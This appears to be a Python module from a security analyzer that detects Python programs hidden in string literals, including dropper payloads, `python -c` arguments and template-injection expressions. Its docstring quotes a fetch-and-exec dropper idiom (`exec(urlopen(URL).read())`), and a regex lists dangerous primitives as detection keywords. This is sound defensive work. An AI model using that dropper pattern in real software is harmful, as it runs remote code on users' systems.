"""Code held in strings: Python a program carries as text, to write to a file or hand to
an interpreter, is analysed as code.

Droppers keep their second stage in a literal — `tmp.write(b"exec(urlopen(URL).read())")`
then `os.system(f"{sys.executable} {tmp.name}")`, `subprocess.run([sys.executable, "-c",
CODE])`, `exec(CODE)` — so the outer program looks like it only writes a file or starts
Python. `embedded_sources` finds the strings (plain or folded: a decoded base64 literal
counts) that parse as Python statements doing something (a call or an import), and the
`-c` argument of a Python command line; the scan analyses each as its own source and
reports what it finds at the string's position.
"""

from __future__ import annotations

import ast
import re
import warnings
from collections.abc import Iterator
from typing import TYPE_CHECKING

import libcst as cst

if TYPE_CHECKING:
    from airlock.analyzer.context import Context

MAX_DEPTH = 2  # code in a string in a string; deeper nesting is not followed
MAX_STRINGS = 16  # per source: enough for a dropper, bounded for hostile input
MAX_BYTES = 100_000  # per embedded source
MAX_TOTAL = 200_000  # characters of embedded code analysed per scan, at every depth
MIN_CHARS = 10  # `import os` is the shortest program worth a look
HINT = re.compile(
    r"\b(import|exec|eval|compile|__import__|open|system|popen|spawn|urlopen|socket|"
    r"subprocess|getattr|globals|__builtins__|b64decode|loads|__subclasses__|__globals__|"
    r"__mro__|__bases?__|__getattribute__|__reduce(_ex)?__|__loader__|breakpoint)\b"
)
PY_C = re.compile(
    r"""(?:^|[\s/"'])python[0-9.]*w?(?:\.exe)?["']?(?:\s+-[A-Za-z]+)*\s+-c\s+"""
    r"""(?:"((?:[^"\\]|\\.)*)"|'([^']*)'|(\S+))""",
    re.IGNORECASE,
)


TEMPLATE_OPEN = re.compile(r"\{\{|\{%|[$#%]\{")  # Jinja/Mako/ERB-style expression openers
MAX_TEMPLATES = 8  # expressions taken from one string
MAX_TEMPLATE_CHARS = 4_000  # characters one expression may span


def _template_expressions(text: str) -> list[str]:
    """Expressions inside template delimiters (`{{ … }}`, `{% … %}`, `${ … }`, `%{ … }`):
    a server-side template injection payload is Python the target's template engine runs."""
    out: list[str] = []
    for tried, m in enumerate(TEMPLATE_OPEN.finditer(text)):
        if tried >= MAX_TEMPLATES * 4:
            break  # hostile text of openers: a bounded number is tried, each bounded
        depth, i = 1, m.end()
        stop = min(len(text), i + MAX_TEMPLATE_CHARS)
        while i < stop and depth:
            depth += {"{": 1, "}": -1}.get(text[i], 0)
            i += 1
        if depth:
            continue
        inner = text[m.end() : i - 1].strip()
        if m.group() == "{{":
            inner = inner.removesuffix("}").strip()
        elif m.group() == "{%":
            inner = re.sub(r"^(set|if|for|print)\s+|%$", "", inner.rstrip("%").strip())
        out.append(inner)
        if len(out) >= MAX_TEMPLATES:
            break
    return out


def _text(value: str | bytes) -> str:
    return value.decode("utf-8", "replace") if isinstance(value, bytes) else value


def _is_program(text: str) -> bool:
    """Python statements that do something: a call or an import, not a bare name or word."""
    if len(text) < MIN_CHARS or len(text) > MAX_BYTES or "\x00" in text:
        return False
    # A call is spelled with an ASCII `(`, an import with the keyword itself (keywords
    # have no other spelling): text with neither parses to neither, and is not parsed.
    if "(" not in text and "import" not in text:
        return False
    if not HINT.search(text):
        return False
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # invalid escapes in the embedded text
            tree = ast.parse(text)
    except (SyntaxError, ValueError, RecursionError, MemoryError, OverflowError):
        return False
    return any(isinstance(n, (ast.Call, ast.Import, ast.ImportFrom)) for n in ast.walk(tree))


def _bare_string(ctx: Context, node: cst.CSTNode) -> bool:
    """A docstring or a string statement: text nothing uses."""
    stmt = ctx.collected.stmt_of.get(id(node))
    return isinstance(stmt, ast.Expr) and isinstance(stmt.value, ast.Constant)


def embedded_sources(ctx: Context) -> Iterator[tuple[cst.CSTNode, str]]:
    """(node, code) for each string of the source that holds a Python program."""
    found = 0
    seen: set[str] = set()
    for node, value, _computed in ctx.string_roots():
        if found >= MAX_STRINGS:
            return
        text = _text(value)
        if len(text) < MIN_CHARS or _bare_string(ctx, node):
            continue
        candidates = [text]
        for m in PY_C.finditer(text):
            code = next((g for g in m.groups() if g is not None), "")
            candidates.append(code.replace('\\"', '"'))
        if "{" in text:
            candidates += _template_expressions(text)
        for code in candidates:
            if code in seen or not _is_program(code):
                continue
            seen.add(code)
            found += 1
            yield node, code
            break
